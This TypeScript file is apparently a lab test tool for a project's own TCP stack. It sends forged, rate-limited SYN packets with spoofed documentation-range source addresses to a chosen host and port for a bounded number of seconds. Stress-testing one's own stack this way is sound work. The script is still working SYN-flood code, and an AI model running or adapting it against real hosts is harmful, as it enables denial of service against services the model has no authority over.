/**
 * Sends forged SYNs at a steady rate through one of our links, bounded in time: sources from two documentation networks and
 * from the target's own, options as Linux has them. Prints how many went out.
 *
 *   node test/lab/adverse/syn-flood.ts --iface near0 --to 192.0.2.10 --mac 02:… --rate 100000 --seconds 5
 */
import { parseArgs } from 'node:util';
import { PacketLink } from '../../../src/lib/link/packet.ts';
import { PacketMemory } from '../../../src/lib/memory/packet-memory.ts';
import { Random } from '../../../src/lib/random.ts';
import { writeSynOptions } from '../../../src/lib/tcp/options.ts';
import { macHigh16, macLow32, parseIpv4, parseMac } from '../../../src/lib/wire/address.ts';
import { ETHERTYPE_IPV4, writeEtherType, writeMac } from '../../../src/lib/wire/ethernet.ts';
import { IPV4_HEADER_BYTES, PROTOCOL_TCP, writeIpv4 } from '../../../src/lib/wire/ipv4.ts';
import { SYN, TCP_HEADER_BYTES, writeTcp, writeTcpChecksum } from '../../../src/lib/wire/tcp.ts';

const { values } = parseArgs({
  options: {
    iface: { type: 'string', default: '' },
    to: { type: 'string', default: '' },
    mac: { type: 'string', default: '' },
    port: { type: 'string', default: '6379' },
    rate: { type: 'string', default: '100000' },
    seconds: { type: 'string', default: '5' },
  },
});
const target = parseIpv4(values.to);
const mac = parseMac(values.mac);
if (target === null || mac === null) throw new Error('--to takes an IPv4 address, --mac a hardware address');

const MAX_BURST = 256;
const OPTION_BYTES = 20;
const TCP_BYTES = TCP_HEADER_BYTES + OPTION_BYTES;
const FRAME_BYTES = 14 + IPV4_HEADER_BYTES + TCP_BYTES;
/** 198.51.100.0, 203.0.113.0, 192.0.2.0. */
const NETWORKS = [0xc633_6400 | 0, 0xcb00_7100 | 0, 0xc000_0200 | 0];

const memory = new PacketMemory(64 << 20, 16 << 20);
const link = PacketLink.open({ memory, interfaceName: values.iface, match: { kind: 'arp' }, rxSlots: 15 });
const random = new Random(20_261_120);

/** One SYN, in a control buffer of the link. */
function send(): boolean {
  const id = link.control.alloc();
  if (id === 0 || target === null || mac === null) return false;
  const ip = link.control.payload(id);
  const frame = ip - 14;
  const tcp = ip + IPV4_HEADER_BYTES;
  const source = NETWORKS[random.below(3)] | (20 + random.below(200));
  writeMac(memory, frame, macHigh16(mac), macLow32(mac));
  writeMac(memory, frame + 6, macHigh16(link.mac), macLow32(link.mac));
  writeEtherType(memory, frame, ETHERTYPE_IPV4, -1);
  writeIpv4(memory, ip, 0, IPV4_HEADER_BYTES + TCP_BYTES, 0, 0x4000, 64, PROTOCOL_TCP, source, target);
  writeTcp(memory, tcp, 1024 + random.below(60_000), Number(values.port), random.int32(), 0, TCP_BYTES, SYN, 64_240);
  writeSynOptions(memory, tcp + TCP_HEADER_BYTES, 1460, 7, true, true, random.int32(), 0);
  writeTcpChecksum(memory, tcp, TCP_BYTES, source, target);
  link.transmit(link.control, id, frame, FRAME_BYTES, frame + FRAME_BYTES, 0, 0, 0);
  link.control.release(id);
  return true;
}

const nap = new Int32Array(new SharedArrayBuffer(4));
const beganMs = performance.now();
const endMs = beganMs + Number(values.seconds) * 1000;
let sent = 0;
for (let nowMs = beganMs; nowMs < endMs; nowMs = performance.now()) {
  const due = Math.floor(((nowMs - beganMs) * Number(values.rate)) / 1000) - sent;
  let burst = Math.min(due, MAX_BURST);
  for (; burst > 0 && send(); burst--) sent++;
  link.flush();
  if (due < MAX_BURST) Atomics.wait(nap, 0, 0, 1);
}
const { txDropped } = link.stats;
link.close();
console.log(JSON.stringify({ sent: sent - txDropped, seconds: (performance.now() - beganMs) / 1000 }));
